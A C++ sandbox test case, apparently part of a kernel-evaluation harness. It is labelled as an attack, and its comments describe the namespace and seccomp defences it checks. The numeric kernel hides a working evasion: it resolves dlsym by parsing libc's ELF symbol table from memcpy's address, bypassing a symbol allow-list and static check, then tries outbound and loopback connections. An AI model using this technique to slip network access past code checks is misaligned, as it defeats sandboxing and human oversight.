/* kernelcrew
entry: tiny_sss
flags: [-O2]
knobs: {PORT: 22}
*/
// ATTACK: opens a network connection, evading the static check and the symbol
// allow-list: `dlsym` is found in the C library's dynamic symbol table from the address
// of memcpy, and `socket`, `connect` and `close` through it. It connects to 1.1.1.1:53
// and to 127.0.0.1:PORT (a service of the host; the test listens there).
// Defense: the sandbox has its own network namespace with nothing but a loopback of its
// own; under the stock confinement the seccomp filter refuses the socket first. The
// kernel reports connect()'s results in out[0] and out[1] as minus errno: -101
// (ENETUNREACH) or -111 (ECONNREFUSED) in an empty namespace, -97 (EAFNOSUPPORT) where
// the filter refused the socket; a success would read as 0.
#include <cstdint>
#include <cstring>

// -- a function of any loaded library, found without importing it ---------------------
// The address of an imported, allowed function (memcpy) lies inside the C library: walk
// back page by page to its ELF header, read its dynamic symbol table, find `dlsym` there,
// then ask dlsym for anything. Names are compared by hand (strcmp is not imported).
struct KcSym { uint32_t name; unsigned char info, other; uint16_t shndx; uint64_t value, size; };
static bool kc_same(const char* a, const char* b) {
    while (*a && *a == *b) { ++a; ++b; }
    return *a == *b;
}
static void* kc_libc_symbol(const char* want) {
    uintptr_t p = reinterpret_cast<uintptr_t>(reinterpret_cast<void*>(&memcpy)) & ~uintptr_t(0xfff);
    while (memcmp(reinterpret_cast<void*>(p), "\x7f" "ELF", 4) != 0) p -= 0x1000;
    const unsigned char* base = reinterpret_cast<const unsigned char*>(p);
    uint64_t phoff; uint16_t phentsize, phnum;
    memcpy(&phoff, base + 32, 8); memcpy(&phentsize, base + 54, 2); memcpy(&phnum, base + 56, 2);
    uintptr_t dyn = 0;
    for (int i = 0; i < phnum; ++i) {
        const unsigned char* ph = base + phoff + i * phentsize;
        uint32_t type; uint64_t vaddr;
        memcpy(&type, ph, 4); memcpy(&vaddr, ph + 16, 8);
        if (type == 2) dyn = p + vaddr;  // PT_DYNAMIC
    }
    if (!dyn) return nullptr;
    uintptr_t strtab = 0, symtab = 0;
    for (const int64_t* d = reinterpret_cast<const int64_t*>(dyn); d[0]; d += 2) {
        if (d[0] == 5) strtab = d[1];  // DT_STRTAB
        if (d[0] == 6) symtab = d[1];  // DT_SYMTAB
    }
    if (strtab < p) strtab += p;
    if (symtab < p) symtab += p;
    for (const KcSym* s = reinterpret_cast<const KcSym*>(symtab);
         reinterpret_cast<uintptr_t>(s) < strtab; ++s) {
        if (s->value && kc_same(reinterpret_cast<const char*>(strtab + s->name), want))
            return reinterpret_cast<void*>(p + s->value);
    }
    return nullptr;
}
typedef void* (*KcDlsym)(void*, const char*);
static void* kc_find(const char* name) {  // any symbol of the process (RTLD_DEFAULT)
    static KcDlsym dl = reinterpret_cast<KcDlsym>(kc_libc_symbol("dlsym"));
    return dl ? dl(nullptr, name) : nullptr;
}
// -------------------------------------------------------------------------------------
typedef int (*Socket)(int, int, int);
typedef int (*Connect)(int, const void*, unsigned);
typedef int (*Close)(int);
typedef int* (*Errno)();

struct SockAddrIn {
    uint16_t family, port;
    uint8_t addr[4];
    uint8_t zero[8];
};

static long dial(uint8_t a, uint8_t b, uint8_t c, uint8_t d, uint16_t port) {
    static Socket kc_socket = reinterpret_cast<Socket>(kc_find("socket"));
    static Connect kc_connect = reinterpret_cast<Connect>(kc_find("connect"));
    static Close kc_close = reinterpret_cast<Close>(kc_find("close"));
    static Errno kc_errno = reinterpret_cast<Errno>(kc_find("__errno_location"));
    if (!kc_socket || !kc_connect || !kc_close || !kc_errno) return -1000;  // not resolved
    int s = kc_socket(2 /* AF_INET */, 1 /* SOCK_STREAM */, 0);
    if (s < 0) return -*kc_errno();
    SockAddrIn sa;
    memset(&sa, 0, sizeof sa);
    sa.family = 2;
    sa.port = (uint16_t)((port >> 8) | (port << 8));
    sa.addr[0] = a; sa.addr[1] = b; sa.addr[2] = c; sa.addr[3] = d;
    long r = kc_connect(s, &sa, sizeof sa);
    if (r < 0) r = -*kc_errno();
    kc_close(s);
    return r;
}

extern "C" void tiny_sss(const float* x, float* out, float a, float b, int64_t rows,
                         int64_t cols) {
    long outside = dial(1, 1, 1, 1, 53);
    long local = dial(127, 0, 0, 1, PORT);
    for (int64_t i = 0; i < rows; ++i) {
        float acc = 0.0f;
        for (int64_t j = 0; j < cols; ++j) acc += a * x[i * cols + j] + b;
        out[i] = acc;
    }
    out[0] = (float)outside;
    if (rows > 1) out[1] = (float)local;
}
